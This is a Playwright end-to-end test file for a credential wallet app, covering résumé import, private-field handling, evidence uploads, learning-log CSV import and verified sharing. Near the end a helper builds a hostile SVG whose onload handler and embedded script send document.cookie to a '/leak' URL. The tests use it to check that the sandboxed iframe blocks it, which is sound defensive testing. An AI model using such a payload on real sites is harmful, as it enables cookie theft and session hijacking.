import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { expectAccessibleAtBothSizes } from '../../../stories/accessible.ts'
import { languagesOf, speak } from '../../../stories/languages.ts'
import { simplePdf } from '../../../stories/simple-pdf.ts'
import { type ServedPages, serveBuiltPages } from '../../../tools/serve-built-pages.ts'
import { launchBrowser } from '../../../tools/test-browser.ts'
import { verify } from '../messages/verify.ts'
import { ownWord } from '../messages/own-word.ts'
import { wallet as words } from '../messages/wallet.ts'
import { walletLearning } from '../messages/wallet-learning.ts'
import { walletLife } from '../messages/wallet-life.ts'
import { walletRecord } from '../messages/wallet-record.ts'
import { walletResume } from '../messages/wallet-resume.ts'
import { walletShare } from '../messages/wallet-share.ts'
import { walletTimeline } from '../messages/wallet-timeline.ts'

const resume = `Sofia Reyes

WORK EXPERIENCE
Logistics Coordinator, Northline Freight
Jan 2022 - Present
Planned 40 routes a day

Motor Transport Operator | US Army | 2006 - 02/2015
Drove convoys.

VOLUNTEERING
Treasurer | Saint Mary Church | Feb 2016 - 2020
Raised money for the roof.`

let wallet: ServedPages
let node: ServedPages
let browser: Browser

beforeAll(async () => {
  [wallet, node] = await Promise.all([serveBuiltPages('wallet'), serveBuiltPages('node', { '/api/trust': { issuers: [] } })])
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser?.close()
  wallet?.close()
  node?.close()
})

describe.each(languagesOf('en'))('a record in five minutes, in $name', ({ language, locale }) => {
  /** Every page in one language; in the other those whose order changes most. */
  const expectAccessible = async (page: Page, isInBoth = false): Promise<void> => { if (language === 'en' || isInBoth) await expectAccessibleAtBothSizes(page) }

  it('begins with a résumé, grows by a photo, and is shown to somebody who can check it', async () => {
    await speak(language)
    const context = await browser.newContext({ viewport: { width: 360, height: 640 }, acceptDownloads: true, locale })
    const page = await context.newPage()
    await page.goto(`${wallet.origin}/read`)
    await page.getByRole('button', { name: words.first.make }).click()
    await page.getByLabel(words.make.passphraseLabel).fill('four brass kettles sing')
    await page.getByRole('button', { name: words.make.done }).click()

    await page.locator('#life-file').setInputFiles({ name: 'resume.pdf', mimeType: 'application/pdf', buffer: simplePdf(resume) })
    await page.getByTestId('read-found').waitFor()
    expect(await page.getByTestId('read-found').innerText()).toBe(walletResume.found(3))
    await page.getByText(walletResume.losses.personal).click()
    expect(await page.getByTestId('read-losses').innerText()).toContain('Sofia Reyes')
    await expectAccessible(page)

    await page.getByRole('link', { name: walletResume.begin }).click()
    await page.getByRole('heading', { name: 'Logistics Coordinator' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('button', { name: walletResume.drafts.accept }).click()
    await page.getByRole('heading', { name: 'Motor Transport Operator' }).waitFor()
    await page.getByRole('button', { name: walletResume.drafts.accept }).click()
    await page.getByRole('heading', { name: 'Treasurer' }).waitFor()

    // The church is marked as private, and stays out unless its person says otherwise.
    expect(await page.getByLabel(walletLife.parts.where).isChecked()).toBe(true)
    await page.getByRole('button', { name: walletResume.drafts.edit }).click()
    await page.getByRole('button', { name: `${walletLife.write.change}: ${walletLife.parts.private}` }).click()
    const place = page.getByLabel(walletLife.parts.where)
    expect(await place.isChecked()).toBe(true)
    await page.getByText(walletLife.write.suggestion.religion).first().waitFor()
    await expectAccessible(page, true)
    await page.getByRole('button', { name: walletLife.write.next }).click()
    await page.getByRole('button', { name: walletLife.write.confirm }).click()
    await page.getByText(walletResume.drafts.doneHeading).waitFor()

    await page.getByRole('link', { name: walletResume.drafts.seeRecord }).click()
    await page.getByRole('heading', { name: 'Logistics Coordinator' }).waitFor()
    expect(await page.locator('.credential-name').allInnerTexts()).toEqual(['Logistics Coordinator', 'Treasurer', 'Motor Transport Operator'])
    await expectAccessible(page, true)
    await page.getByRole('heading', { name: 'Treasurer' }).click()
    expect(await page.getByTestId('level').innerText()).toBe(walletLife.entry.levels['self-stated'])

    const asked: string[] = []
    page.on('request', (request) => { if (!request.url().startsWith('data:')) asked.push(request.url()) })
    await page.locator('#evidence-file').setInputFiles({ name: 'roof.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(hostilePicture(wallet.origin)) })
    await page.getByText(walletLife.evidence.added).waitFor()
    await page.getByTestId('level').filter({ hasText: walletLife.entry.levels.evidenced }).waitFor()
    await page.getByRole('button', { name: walletLife.evidence.look }).click()
    const frame = page.frameLocator('iframe')
    await frame.locator('img').waitFor()
    expect(await frame.locator('img').evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth))).toBe(40)
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('')
    expect(await page.evaluate(() => document.querySelector('iframe')?.contentDocument ?? null)).toBeNull()
    expect(asked.filter((url) => url.includes('leak'))).toEqual([])
    await expectAccessible(page)

    await page.getByRole('link', { name: walletRecord.share, exact: true }).click()
    await page.getByText(walletLife.share.choose).waitFor()
    expect(await page.getByLabel(walletLife.parts.where).isChecked()).toBe(false)
    await expectAccessible(page)
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: walletShare.file }).click()
    const path = await (await download).path()

    const verifier = await context.newPage()
    await verifier.goto(`${node.origin}/verify`)
    await verifier.locator('input[type=file]').first().setInputFiles(path)
    await verifier.getByText(ownWord.headline).waitFor()
    const verdict = await verifier.locator('main').innerText()
    expect(verdict).toContain(verify.levels.evidenced)
    expect(verdict).toContain('Treasurer')
    expect(verdict).not.toContain('Saint Mary')
    await expectAccessible(verifier)

    await page.goBack()
    await page.getByRole('button', { name: walletLife.entry.remove }).click()
    await page.getByText(walletTimeline.removed('Treasurer')).waitFor()
    await page.getByRole('button', { name: walletTimeline.undo }).click()
    await page.getByRole('heading', { name: 'Treasurer' }).waitFor()
    await context.close()
  })
})

/** A learning history of somebody else's program: dates that read in two ways, one row twice, one broken. */
const learned = 'Activity,Date,Minutes,Skills,Rating\nPivot tables,04/05/2025,90,Excel,5\nLoops in warehouses,11/06/2025,45,"Excel, Route planning",4\nPivot tables,04/05/2025,90,Excel,5\n,12/06/2025,10,,\n'

describe.each(languagesOf('ar'))('a learning log, in $name', ({ language, locale }) => {
  it('takes what is shared and a table, knows what it has already, and becomes a portfolio that somebody can check', async () => {
    await speak(language)
    const { form, table, portfolio } = walletLearning
    const context = await browser.newContext({ viewport: { width: 360, height: 640 }, acceptDownloads: true, locale })
    const page = await context.newPage()
    await page.goto(`${wallet.origin}/learning`)
    await page.getByRole('button', { name: words.first.make }).click()
    await page.getByLabel(words.make.passphraseLabel).fill('four brass kettles sing')
    await page.getByRole('button', { name: words.make.done }).click()
    await page.getByText(walletLearning.emptyHeading).waitFor()
    await expectAccessibleAtBothSizes(page)

    const manifest: unknown = await (await fetch(`${wallet.origin}/wallet-${language}.webmanifest`)).json()
    expect(manifest).toMatchObject({ share_target: { action: '/learning/shared', method: 'POST', enctype: 'multipart/form-data', params: { title: 'title', text: 'text', url: 'url' } } })
    const shared = { title: 'Routing for lorries', text: 'Loops waste fuel.', url: 'https://learn.example/courses/routing?utm_source=app' }
    await shareTo(page, shared)
    await expect.poll(() => page.locator('#learning-title').inputValue()).toBe(shared.title)
    await expect.poll(() => new URL(page.url()).hash).toBe('')
    await page.locator('#learning-duration').fill('1.5')
    await expectAccessibleAtBothSizes(page)
    await page.getByRole('button', { name: form.keep, exact: true }).click()
    await page.getByText(walletLearning.kept(shared.title)).waitFor()
    // From here on without a network: everything is on the device.
    await context.setOffline(true)
    await page.getByRole('link', { name: walletLearning.add }).click()
    await page.locator('#learning-title').fill(shared.url.replace('app', 'mail'))
    await page.getByTestId('same').waitFor()

    await page.getByRole('link', { name: walletLearning.heading }).click()
    await page.getByRole('link', { name: walletLearning.bring }).click()
    const bring = async (): Promise<void> => {
      await page.locator('#learning-file').setInputFiles({ name: 'learned.csv', mimeType: 'text/csv', buffer: Buffer.from(learned) })
      await page.getByLabel(table.orders.dmy).waitFor()
    }
    await bring()
    await page.getByRole('button', { name: table.toCheck }).click()
    await page.getByText(table.orderNeed).waitFor()
    await page.getByLabel(table.orders.dmy).check()
    expect(await page.getByTestId('table-check').innerText()).toContain(table.unused('Rating'))
    const faults = await page.getByTestId('table-faults').innerText()
    for (const code of ['repeated', 'title-missing'] as const) expect(faults).toContain(table.codes[code])
    await expectAccessibleAtBothSizes(page)
    await page.getByRole('button', { name: table.keep(2) }).click()
    await page.getByRole('button', { name: table.undo }).click()
    await bring()
    await page.getByLabel(table.orders.dmy).check()
    await page.getByRole('button', { name: table.keep(2) }).click()
    await page.getByRole('link', { name: table.see }).click()
    await page.getByRole('link', { name: 'Loops in warehouses' }).click()
    await page.locator('#evidence-file').setInputFiles({ name: 'loops.txt', mimeType: 'text/plain', buffer: Buffer.from('A B A') })
    await page.getByText(form.fileAdded).waitFor()
    await expectAccessibleAtBothSizes(page)
    await page.getByRole('link', { name: walletLearning.heading }).click()

    for (const title of [shared.title, 'Loops in warehouses']) await page.getByLabel(walletLearning.choose(title)).check()
    await expectAccessibleAtBothSizes(page)
    await page.getByRole('button', { name: walletLearning.make }).click()
    await page.getByLabel(portfolio.what).fill('Planning routes')
    const preview = page.getByTestId('preview')
    expect(await preview.innerText()).not.toContain(shared.text)
    await page.getByLabel(portfolio.withReflection).check()
    expect(await preview.innerText()).toContain(shared.text)
    expect(await preview.innerText()).toContain(walletTimeline.evidence(1))
    await expectAccessibleAtBothSizes(page)
    await page.getByRole('button', { name: portfolio.makeIt }).click()
    await page.getByTestId('level').filter({ hasText: walletLife.entry.levels.evidenced }).waitFor()

    await page.getByRole('link', { name: walletRecord.share, exact: true }).click()
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: walletShare.file }).click()
    await context.setOffline(false)
    const verifier = await context.newPage()
    await verifier.goto(`${node.origin}/verify`)
    await verifier.locator('input[type=file]').first().setInputFiles(await (await download).path())
    await verifier.getByTestId('told').waitFor()
    const verdict = await verifier.locator('main').innerText()
    for (const told of [verify.levels.evidenced, 'Planning routes', shared.title, shared.text]) expect(verdict).toContain(told)
    await context.close()
  })

  /** Shares something as a device's share sheet does: the wallet's worker answers, and its page opens, locked. */
  async function shareTo(page: Page, shared: Readonly<Record<string, string>>): Promise<void> {
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
    await page.evaluate((members) => {
      const form = document.createElement('form')
      Object.assign(form, { action: '/learning/shared', method: 'post', enctype: 'multipart/form-data' })
      for (const [name, value] of Object.entries(members)) form.append(Object.assign(document.createElement('input'), { name, value }))
      document.body.append(form)
      form.submit()
    }, shared)
    await page.getByLabel(words.unlock.passphrase).fill('four brass kettles sing')
    await page.getByRole('button', { name: words.unlock.open }).click()
    await page.getByText(walletLearning.form.shared).waitFor()
  }
})

/** A picture that would run, phone home and read the wallet if it were let. */
function hostilePicture(origin: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="fetch('${origin}/leak')"><script>fetch('${origin}/leak?'+document.cookie)</script><image href="${origin}/leak.png"/><rect width="40" height="40" fill="teal"/></svg>`
}
